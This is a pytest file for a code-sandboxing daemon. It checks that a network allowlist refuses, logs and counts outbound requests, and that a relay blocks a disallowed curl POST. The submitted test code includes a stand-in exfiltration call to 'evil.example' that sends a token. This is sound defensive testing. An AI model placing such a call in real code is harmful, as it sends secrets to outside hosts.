"""A profile with a network allowlist in a real daemon: a refused request is a recorded, counted finding."""

from __future__ import annotations

from pathlib import Path

import pytest
from tenacity import Retrying, retry_if_result, stop_after_delay, wait_fixed

from assayd_client import Document
from support.daemons.daemon_fixtures import MakeDaemon
from support.daemons.daemon_process import DaemonProcess
from support.texts.extractors import PATH

pytestmark = pytest.mark.engine

PROFILE = """
description = "Reaches one host."
extends = "extractor"

[network]
mode = "allowlist"
hosts = ["api.example.com"]

[imports]
allowed = ["urllib.request", "urllib.error"]
"""
CODE = """
import urllib.error
import urllib.request

def extract(path: str) -> dict:
    try:
        urllib.request.urlopen("https://evil.example/secret?token=1", timeout=5)
    except urllib.error.URLError as problem:
        return {"reason": str(problem.reason)}
    return {"reason": "let through"}
"""


@pytest.fixture
def reaching(make_daemon: MakeDaemon, tmp_path: Path) -> DaemonProcess:
    """Return a daemon with the profile."""
    (tmp_path / "reach.toml").write_text(PROFILE)
    daemon = make_daemon(settings={"POLICY_FOLDERS": f'["{tmp_path}"]', "POOL__ENABLED": "false"})
    daemon.start()
    return daemon


def submission(**more: object) -> Document:
    return {"kind": "extractor", "policy": "reach", "payload": {"code": CODE, "sample_paths": [PATH]}, **more}


def test_refused_access_fails_the_attempt_and_is_told_everywhere(reaching: DaemonProcess) -> None:
    with reaching.client() as client:
        attempt = client.submit(submission(), wait_s=60)
        metric = 'assayd_egress_accesses_total{rule="network.not_listed"} 1.0'
        # Executors report their metrics once per second.
        until_counted = Retrying(
            retry=retry_if_result(lambda metrics: metric not in metrics),
            stop=stop_after_delay(30),
            wait=wait_fixed(0.05),
        )
        until_counted(lambda: client.metrics().decode())

    assert (attempt["verdict"], attempt["cause"]) == ("failed", "policy_violation")
    finding = next(f for f in attempt["report"]["findings"] if f["rule"] == "policy.network")
    assert "evil.example:443 (network.not_listed" in finding["message"]
    (violation,) = attempt["execution"]["network_violations"]
    assert (violation["host"], violation["port"], violation["rule"]) == (
        "evil.example",
        443,
        "network.not_listed",
    )
    (asked,) = attempt["execution"]["network_attempts"]
    assert (asked["via"], asked["allowed"], asked["address"]) == ("tls", False, None)
    (logged,) = reaching.log.events("egress.refused", host="evil.example")
    assert logged["attempt_id"] == attempt["id"]
    assert not any("token=1" in line and "egress" in line for line in reaching.log.lines)


def test_request_may_block_what_its_profile_lists(reaching: DaemonProcess) -> None:
    with reaching.client() as client:
        attempt = client.submit(submission(overrides={"network": {"mode": "blocked"}}), wait_s=60)

    violations = attempt["execution"]["network_violations"]
    assert attempt["verdict"] == "failed"
    assert {violation["rule"] for violation in violations} == {"network.blocked"}
    assert ("evil.example", 443) in {(violation["host"], violation["port"]) for violation in violations}
    assert attempt["execution"]["network_attempts"] == []


PIPELINE = """
description = "Pipelines that may ask one host for one thing."
extends = "pipeline"

[network]
mode = "allowlist"
ports = [80]

[network.http."api.example.com"]
methods = ["GET"]
paths = ["/v1/"]
"""


def test_curl_of_a_pipeline_asks_through_the_relay_and_is_refused_there(
    make_daemon: MakeDaemon, tmp_path: Path
) -> None:
    (tmp_path / "fetching.toml").write_text(PIPELINE)
    daemon = make_daemon(settings={"POLICY_FOLDERS": f'["{tmp_path}"]', "POOL__ENABLED": "false"})
    daemon.start()
    script = "curl -sS --fail -X POST -o data/x.json http://api.example.com/v1/items"
    payload = {"steps": [{"name": "fetch", "type": "bash", "content": script}]}
    with daemon.client() as client:
        attempt = client.submit({"kind": "pipeline", "policy": "fetching", "payload": payload}, wait_s=60)

    assert attempt["verdict"] == "failed"
    (asked,) = attempt["execution"]["network_attempts"]
    assert (asked["host"], asked["port"], asked["allowed"]) == ("api.example.com", 80, False)
    (case,) = attempt["report"]["runtime_results"]["cases"]
    assert "403" in case["stderr"]
